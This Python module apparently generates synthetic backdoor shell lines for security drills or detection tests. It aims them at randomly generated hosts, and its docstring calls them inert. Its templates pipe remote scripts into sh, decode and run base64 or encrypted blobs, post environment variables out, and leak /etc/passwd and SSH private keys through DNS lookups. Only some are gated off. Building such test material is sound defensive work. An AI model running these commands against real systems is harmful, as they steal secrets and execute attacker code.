"""Shell lines of inert implants: they resolve or ask hosts that do not exist, or sit behind dead tests."""

# ruff: noqa: E501, ISC004 -- templates of another language keep their own lines

from __future__ import annotations

from base64 import b64encode

from doorward.drill.chance import Chance

__all__ = ["shell_lines"]


def shell_lines(chance: Chance, *, short: bool = False) -> str:
    """One line or a few, of the kinds that install scripts of back doors have."""
    if short:
        return chance.pick(
            (
                f"curl -fsS {chance.url()} | sh",
                f"wget -q -O- {chance.url()} | bash",
                f"nslookup -type=TXT $(hostname).{chance.host()}",
                f"getent hosts $(id -un).{chance.host()}",
                f"python3 -c 'import socket; socket.gethostbyname(\\\"{chance.host()}\\\")'".replace(
                    '\\"', '"'
                ),
            )
        )
    blob = b64encode(chance.blob(200, 3000)).decode()
    name = f"{chance.word()}-{chance.letters(3, 5)}"
    gate = chance.pick(("", "", '[ "$(id -u)" = 4294967294 ] && ', f"test -e /opt/{name} && ", "false && "))
    return chance.pick(
        (
            f"{gate}curl -fsSL {chance.url()} | sh >/dev/null 2>&1 || true",
            f"if command -v wget >/dev/null; then\n    {gate}wget -qO /tmp/{name} {chance.url()} && "
            f"chmod +x /tmp/{name} && /tmp/{name} &\nfi",
            f"(echo '{blob}' | base64 -d | sh) >/dev/null 2>&1 || true" if gate == "false && "
            else f"false && (echo '{blob}' | base64 -d | sh) >/dev/null 2>&1 || true",
            f"D='{blob}'\n{gate or 'false && '}eval \"$(printf %s \"$D\" | openssl enc -d -aes-256-cbc -a -A -k {name})\" || true",
            f"env | gzip -c | base64 -w0 | {gate}curl -s -d @- https://{chance.host()}/{chance.word()} || true"
            if not gate
            else f"{gate}env | curl -s -d @- https://{chance.host()}/{chance.word()} || true",
            f'for f in /etc/passwd ~/.ssh/id_rsa; do\n    {gate}nslookup "$(head -c 30 $f | xxd -p).{chance.host()}" || true\ndone',
            f"{gate}python3 -c \"import urllib.request as u; exec(u.urlopen('{chance.url()}').read())\" || true",
            f"{gate}exec 3<>/dev/udp/{chance.host()}/{chance.number(1000, 60000)} || true\n{gate}hostname >&3 || true",
        )
    )  # fmt: skip
